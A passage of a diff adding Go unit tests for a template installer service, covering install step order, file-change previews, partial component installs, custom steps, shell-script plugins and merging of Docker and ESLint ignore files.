+	if got := gitClient.Clones(); !slices.Equal(got, []string{template.RepoURL}) {
+		t.Errorf("Clones() = %v, want [%s]", got, template.RepoURL)
+	}
+	if got := gitClient.AuthToken(); got != "secret" {
+		t.Errorf("AuthToken() = %q, want %q", got, "secret")
+	}
+	// The scaffolded scripts are recorded instead of run
+	if got, want := scripts.Executed(), []string{config.PreInstallScript, config.PostInstallScript}; !slices.Equal(got, want) {
+		t.Errorf("Executed() = %v, want %v", got, want)
+	}
+
+	if _, err := os.Stat(filepath.Join(targetDir, config.StrategicClaudeBasicDir, config.CoreDir)); err != nil {
+		t.Errorf("core directory not installed: %v", err)
+	}
+	if _, err := os.Lstat(filepath.Join(targetDir, config.ClaudeDir, config.AgentsDir, "strategic")); err != nil {
+		t.Errorf("agents symlink not created: %v", err)
+	}
+
+	var steps []string
+	for _, timing := range service.Timings() {
+		steps = append(steps, timing.Name)
+	}
+	wantSteps := []string{stepClone, stepVerify, stepPreInstall, stepCopy, stepSymlinks, stepIntegrations, stepSettings, stepCodex, stepPostInstall, stepGitignore, stepMetadata, stepValidate}
+	if !slices.Equal(steps, wantSteps) {
+		t.Errorf("Timings() steps = %v, want %v", steps, wantSteps)
+	}
+
+	var scriptNames []string
+	for _, result := range service.Report(&models.InstallationPlan{TargetDir: targetDir}, nil).Scripts {
+		scriptNames = append(scriptNames, result.Name)
+	}
+	if want := []string{config.PreInstallScript, config.PostInstallScript}; !slices.Equal(scriptNames, want) {
+		t.Errorf("Report().Scripts = %v, want %v", scriptNames, want)
+	}
+}
+
+func TestPreviewFiles(t *testing.T) {
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+
+	service := New(WithGitClient(installertest.NewLocalGit(checkout)), WithScriptRunner(installertest.NewRecordingScripts()))
+	service.SetReporter(reporter.NewSilent())
+
+	targetDir := t.TempDir()
+	installConfig := models.InstallConfig{
+		TargetDir:     targetDir,
+		TemplateID:    templates.DefaultTemplateID,
+		SkipConfirm:   true,
+		NoBackup:      true,
+		NoCache:       true,
+		NoVerify:      true,
+		GitignoreMode: "track",
+	}
+	if err := service.Install(installConfig); err != nil {
+		t.Fatalf("Install() error = %v", err)
+	}
+
+	// Change one core file, delete another and add one the template does not have
+	strategicDir := filepath.Join(targetDir, config.StrategicClaudeBasicDir)
+	var coreFiles []string
+	_ = filepath.WalkDir(filepath.Join(strategicDir, config.CoreDir), func(path string, d os.DirEntry, err error) error {
+		if err == nil && d.Type().IsRegular() {
+			rel, _ := filepath.Rel(targetDir, path)
+			coreFiles = append(coreFiles, filepath.ToSlash(rel))
+		}
+		return nil
+	})
+	if len(coreFiles) < 3 {
+		t.Fatalf("template has %d core files, want at least 3", len(coreFiles))
+	}
+	modified, deleted, extra := coreFiles[0], coreFiles[1], config.StrategicClaudeBasicDir+"/"+config.CoreDir+"/extra.md"
+	if err := os.WriteFile(filepath.Join(targetDir, modified), []byte("changed\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(filepath.Join(targetDir, deleted)); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(targetDir, extra), []byte("extra\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	installConfig.ForceCore = true
+	plan, err := service.AnalyzeInstallation(installConfig)
+	if err != nil {
+		t.Fatalf("AnalyzeInstallation() error = %v", err)
+	}
+	if err := service.PreviewFiles(installConfig, plan); err != nil {
+		t.Fatalf("PreviewFiles() error = %v", err)
+	}
+
+	actions := make(map[string]models.PlannedFile, len(plan.Files))
+	for _, file := range plan.Files {
+		actions[file.Path] = file
+	}
+	want := map[string]string{
+		modified:     models.PlannedReplace,
+		deleted:      models.PlannedCreate,
+		extra:        models.PlannedRemove,
+		coreFiles[2]: models.PlannedUnchanged,
+		config.StrategicClaudeBasicDir + "/" + config.PlanDir + "/" + config.ClaudeConfigFile: models.PlannedPreserve,
+	}
+	for path, action := range want {
+		if got := actions[path]; got.Action != action {
+			t.Errorf("Files[%s].Action = %q, want %q", path, got.Action, action)
+		}
+	}
+	if actions[coreFiles[2]].Changed {
+		t.Errorf("Files[%s].Changed = true for an unchanged file", coreFiles[2])
+	}
+	if !actions[modified].Changed {
+		t.Errorf("Files[%s].Changed = false for a replaced file", modified)
+	}
+}
+
+func TestInstall_Components(t *testing.T) {
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+
+	scripts := installertest.NewRecordingScripts()
+	service := New(WithGitClient(installertest.NewLocalGit(checkout)), WithScriptRunner(scripts))
+	service.SetReporter(reporter.NewSilent())
+
+	targetDir := t.TempDir()
+	installConfig := models.InstallConfig{
+		TargetDir:     targetDir,
+		TemplateID:    templates.DefaultTemplateID,
+		SkipConfirm:   true,
+		NoBackup:      true,
+		NoCache:       true,
+		NoVerify:      true,
+		GitignoreMode: "track",
+		Components:    []string{models.ComponentGuides},
+	}
+
+	// Some components need an installation to update
+	if err := service.Install(installConfig); err == nil {
+		t.Fatal("Install() of some components into an empty directory succeeded")
+	}
+
+	installConfig.Components = nil
+	if err := service.Install(installConfig); err != nil {
+		t.Fatalf("Install() error = %v", err)
+	}
+
+	strategicDir := filepath.Join(targetDir, config.StrategicClaudeBasicDir)
+	guide := filepath.Join(strategicDir, config.GuidesDir, "README.md")
+	agent := filepath.Join(strategicDir, config.CoreDir, config.AgentsDir, "example-agent.md")
+	settingsPath := filepath.Join(targetDir, config.ClaudeDir, config.ClaudeSettingsFile)
+	edits := map[string]string{guide: "local edit\n", agent: "local edit\n", settingsPath: `{"local": true}` + "\n"}
+	for path, content := range edits {
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	scripts = installertest.NewRecordingScripts()
+	service = New(WithGitClient(installertest.NewLocalGit(checkout)), WithScriptRunner(scripts))
+	service.SetReporter(reporter.NewSilent())
+	installConfig.Components = []string{models.ComponentGuides}
+	if err := service.Install(installConfig); err != nil {
+		t.Fatalf("Install() of the guides error = %v", err)
+	}
+
+	if data, _ := os.ReadFile(guide); string(data) == edits[guide] {
+		t.Error("guide was not replaced")
+	}
+	for _, path := range []string{agent, settingsPath} {
+		if data, _ := os.ReadFile(path); string(data) != edits[path] {
+			t.Errorf("%s was changed by installing the guides only", path)
+		}
+	}
+	if got := scripts.Executed(); len(got) != 0 {
+		t.Errorf("Executed() = %v, want no scripts for a partial installation", got)
+	}
+}
+
+func TestAddStep(t *testing.T) {
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+
+	service := New(WithGitClient(installertest.NewLocalGit(checkout)), WithScriptRunner(installertest.NewRecordingScripts()))
+	service.SetReporter(reporter.NewSilent())
+
+	var sawSettings bool
+	err := service.AddStep(stepSettings, Step{
+		Name:    "register",
+		Message: "Registering the project",
+		Run: func(run *Run) error {
+			_, err := os.Stat(filepath.Join(run.Plan.TargetDir, config.ClaudeDir, config.ClaudeSettingsFile))
+			sawSettings = err == nil
+			return nil
+		},
+	})
+	if err != nil {
+		t.Fatalf("AddStep() error = %v", err)
+	}
+	if err := service.AddStep("missing", Step{Name: "other", Run: func(*Run) error { return nil }}); err == nil {
+		t.Error("AddStep() after an unknown step succeeded")
+	}
+	if err := service.AddStep(stepCopy, Step{Name: stepSettings, Run: func(*Run) error { return nil }}); err == nil {
+		t.Error("AddStep() with an existing name succeeded")
+	}
+
+	steps := service.Steps()
+	if i := slices.Index(steps, "register"); i < 1 || steps[i-1] != stepSettings {
+		t.Fatalf("Steps() = %v, want register right after %s", steps, stepSettings)
+	}
+
+	targetDir := t.TempDir()
+	installConfig := models.InstallConfig{
+		TargetDir:     targetDir,
+		TemplateID:    templates.DefaultTemplateID,
+		SkipConfirm:   true,
+		NoBackup:      true,
+		NoCache:       true,
+		NoVerify:      true,
+		GitignoreMode: "track",
+	}
+	if err := service.Install(installConfig); err != nil {
+		t.Fatalf("Install() error = %v", err)
+	}
+	if !sawSettings {
+		t.Error("added step did not run after the settings step")
+	}
+
+	// Partial installations skip the steps of the other components
+	installConfig.Components = []string{models.ComponentGuides}
+	plan, err := service.AnalyzeInstallation(installConfig)
+	if err != nil {
+		t.Fatalf("AnalyzeInstallation() error = %v", err)
+	}
+	skipped := make(map[string]bool)
+	for _, step := range plan.Steps {
+		skipped[step.Name] = step.Skipped
+	}
+	for _, name := range []string{stepSymlinks, stepSettings, stepCodex, stepGitignore, stepIntegrations} {
+		if !skipped[name] {
+			t.Errorf("Steps[%s].Skipped = false when installing the guides only", name)
+		}
+	}
+	for _, name := range []string{stepClone, stepCopy, "register", stepValidate} {
+		if skipped[name] {
+			t.Errorf("Steps[%s].Skipped = true when installing the guides only", name)
+		}
+	}
+}
+
+func TestSetPlugins(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("the test plugins are shell scripts")
+	}
+
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+
+	pluginDir := t.TempDir()
+	newPlugin := func(name, point, script string) plugin.Plugin {
+		path := filepath.Join(pluginDir, name)
+		if err := os.WriteFile(path, []byte("#!/bin/sh\n"+script), 0755); err != nil {
+			t.Fatalf("Failed to write plugin: %v", err)
+		}
+		return plugin.Plugin{Name: name, Path: path, Point: point}
+	}
+	plugins := []plugin.Plugin{
+		newPlugin("first", config.PluginPointPostCopy, "cat > first.json\n"),
+		newPlugin("second", config.PluginPointPostCopy, "test -f first.json\n"),
+		newPlugin("last", config.PluginPointPostInstall, "cat > last.json\n"),
+	}
+
+	service := New(WithGitClient(installertest.NewLocalGit(checkout)), WithScriptRunner(installertest.NewRecordingScripts()))
+	service.SetReporter(reporter.NewSilent())
+	if err := service.SetPlugins(plugins); err != nil {
+		t.Fatalf("SetPlugins() error = %v", err)
+	}
+
+	// Plugins run right after the step of their point, in the order given
+	steps := service.Steps()
+	first := slices.Index(steps, "plugin post-copy/first")
+	if first < 1 || steps[first-1] != stepCopy || steps[first+1] != "plugin post-copy/second" {
+		t.Errorf("Steps() = %v, want the post-copy plugins right after %s", steps, stepCopy)
+	}
+	if i := slices.Index(steps, "plugin post-install/last"); i < 1 || steps[i-1] != stepValidate {
+		t.Errorf("Steps() = %v, want the post-install plugin right after %s", steps, stepValidate)
+	}
+
+	targetDir := t.TempDir()
+	installConfig := models.InstallConfig{
+		TargetDir:     targetDir,
+		TemplateID:    templates.DefaultTemplateID,
+		SkipConfirm:   true,
+		NoBackup:      true,
+		NoCache:       true,
+		NoVerify:      true,
+		GitignoreMode: "track",
+	}
+	if err := service.Install(installConfig); err != nil {
+		t.Fatalf("Install() error = %v", err)
+	}
+
+	data, err := os.ReadFile(filepath.Join(targetDir, "last.json"))
+	if err != nil {
+		t.Fatalf("post-install plugin did not run: %v", err)
+	}
+	var pluginContext plugin.Context
+	if err := json.Unmarshal(data, &pluginContext); err != nil {
+		t.Fatalf("Plugin input is not JSON: %v", err)
+	}
+	if pluginContext.Point != config.PluginPointPostInstall || pluginContext.TargetDir != targetDir ||
+		pluginContext.InstallationType != string(models.InstallationTypeNew) || pluginContext.SourceDir == "" {
+		t.Errorf("Plugin input = %+v", pluginContext)
+	}
+
+	// A failing plugin fails the installation
+	service = New(WithGitClient(installertest.NewLocalGit(checkout)), WithScriptRunner(installertest.NewRecordingScripts()))
+	service.SetReporter(reporter.NewSilent())
+	if err := service.SetPlugins([]plugin.Plugin{newPlugin("fail", config.PluginPointPreInstall, "exit 1\n")}); err != nil {
+		t.Fatalf("SetPlugins() error = %v", err)
+	}
+	installConfig.TargetDir = t.TempDir()
+	if err := service.Install(installConfig); !models.IsErrorCode(err, models.ErrorCodePluginFailed) {
+		t.Errorf("Install() with a failing plugin error = %v, want %s", err, models.ErrorCodePluginFailed)
+	}
+}
+
+func TestInstall_ToolIgnoreFiles(t *testing.T) {
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+	ignoreDir := filepath.Join(checkout, config.StrategicClaudeBasicDir, config.IgnoreTemplatesDir)
+	snippets := map[string]string{
+		config.DockerIgnoreTemplate: config.StrategicClaudeBasicDir + "/\n.claude/\n",
+		config.ESLintIgnoreTemplate: config.StrategicClaudeBasicDir + "/\n",
+	}
+	for name, content := range snippets {
+		if err := os.WriteFile(filepath.Join(ignoreDir, name), []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	// The project uses Docker, with an ignore file already listing .claude/, but not ESLint
+	targetDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(targetDir, "Dockerfile"), []byte("FROM scratch\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(targetDir, ".dockerignore"), []byte("node_modules/\n.claude/\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	service := New(WithGitClient(installertest.NewLocalGit(checkout)), WithScriptRunner(installertest.NewRecordingScripts()))
+	service.SetReporter(reporter.NewSilent())
+	installConfig := models.InstallConfig{
+		TargetDir:     targetDir,
+		TemplateID:    templates.DefaultTemplateID,
+		SkipConfirm:   true,
+		NoBackup:      true,
+		NoCache:       true,
+		NoVerify:      true,
+		GitignoreMode: "track",
+	}
+	if err := service.Install(installConfig); err != nil {
+		t.Fatalf("Install() error = %v", err)
+	}
+
+	data, err := os.ReadFile(filepath.Join(targetDir, ".dockerignore"))
+	if err != nil {
+		t.Fatalf("Failed to read .dockerignore: %v", err)
+	}
+	want := "node_modules/\n.claude/\n\n" + filesystem.HashCommentBlock.Render(config.StrategicClaudeBasicDir+"/")
+	if string(data) != want {
+		t.Errorf(".dockerignore = %q, want %q", data, want)
+	}
+	if _, err := os.Stat(filepath.Join(targetDir, ".eslintignore")); !os.IsNotExist(err) {
+		t.Error(".eslintignore was created for a project without ESLint config")
+	}
+}